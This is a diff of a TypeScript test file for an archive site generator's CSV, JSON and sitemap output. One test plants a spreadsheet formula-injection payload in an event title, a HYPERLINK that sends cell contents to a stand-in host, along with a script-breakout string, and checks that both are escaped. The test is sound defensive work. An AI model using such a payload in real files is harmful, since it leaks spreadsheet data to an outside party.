@@ -2,8 +2,8 @@
 import { runInNewContext } from 'node:vm'
 import { expect, test } from 'vitest'
 import { buildArchive } from '../../src/archive/archive.ts'
-import { csvCell, eventsCsv } from '../../src/formats/csv.ts'
-import { eventsJson } from '../../src/formats/json.ts'
+import { csvCell } from '../../src/formats/csv.ts'
+import { writeDownloads } from '../../src/formats/downloads.ts'
 import { scriptJson } from '../../src/formats/script-json.ts'
 import { sitemapFile } from '../../src/output/emit/sitemap.ts'
 import { sha256 } from '../../src/records/hash.ts'
@@ -39,31 +39,18 @@ test.each([
   expect(csvCell([text])).toBe(cell)
 })
 
-test('the table has a header, a row for each event, and the same columns in each', () => {
-  // A byte order mark, for spreadsheets; see `csv.ts`.
-  const [mark, ...text] = eventsCsv(archiveOf())
-  expect(mark).toBe('\uFEFF')
-  const rows = text.join('').split('\r\n')
-  expect(rows.length).toBe(7)
-  expect(rows[0]).toBe(
-    'id,url,title,status,date,earliest,latest,type,agreement,places,people,organizations,topics,sources,summary',
-  )
-  expect(rows.at(-2)).toBe(
-    'harbour-opening,../events/harbour-opening/,Anna Berg opens the harbour of Haven,happened,1998-05-04,1998-05-04,1998-05-04,other,corroborated,haven,anna-berg,harbour-office,harbours,harbour-gazette-opening; radio-north-opening,"The new harbour was opened by the Mayor of Haven. The two reports give different numbers of people who had come to see it, and both are kept."',
-  )
-  expect(rows.at(-1)).toBe('')
-})
-
 test('a title that is a formula is text in the table, and itself in JSON', () => {
   const title = '=HYPERLINK("https://evil.example?" & A1, "</script><!--")'
   const archive = archiveOf([
     'events/harbour-opening.md',
     replacing('title: Anna Berg opens the harbour of Haven', `title: '${title}'`),
   ])
-  expect(eventsCsv(archive)).toContain(
+  const files = writeDownloads(archive, { hash: sha256 })
+  const textOf = (name: string) => files.find((file) => file.name === name)?.text ?? ''
+  expect(textOf('events.csv')).toContain(
     `,"'=HYPERLINK(""https://evil.example?"" & A1, ""</script><!--"")",`,
   )
-  const { events } = JSON.parse(eventsJson(archive)) as { events: { title: string }[] }
+  const { events } = JSON.parse(textOf('events.json')) as { events: { title: string }[] }
   expect(events.at(-1)!.title).toBe(title)
 })
 
@@ -84,13 +71,9 @@ test.each([
 })
 
 test('a sitemap is XML whatever the pages are called', () => {
-  const pages = [
-    'index.html',
-    'events/a&b/index.html',
-    `events/<x>"'/index.html`,
-    'events/ü/index.html',
-  ]
-  const locations = sitemapFile('https://example.org/a&b/', pages).match(/<loc>.*<\/loc>/g)
+  const pages = ['/', '/events/a&b/', `/events/<x>"'/`, '/events/ü/']
+  const text = sitemapFile('https://example.org/a&b/', pages, () => undefined)
+  const locations = text.match(/<loc>.*<\/loc>/g)
   expect(locations).toEqual([
     '<loc>https://example.org/a&amp;b/</loc>',
     '<loc>https://example.org/a&amp;b/events/a&amp;b/</loc>',
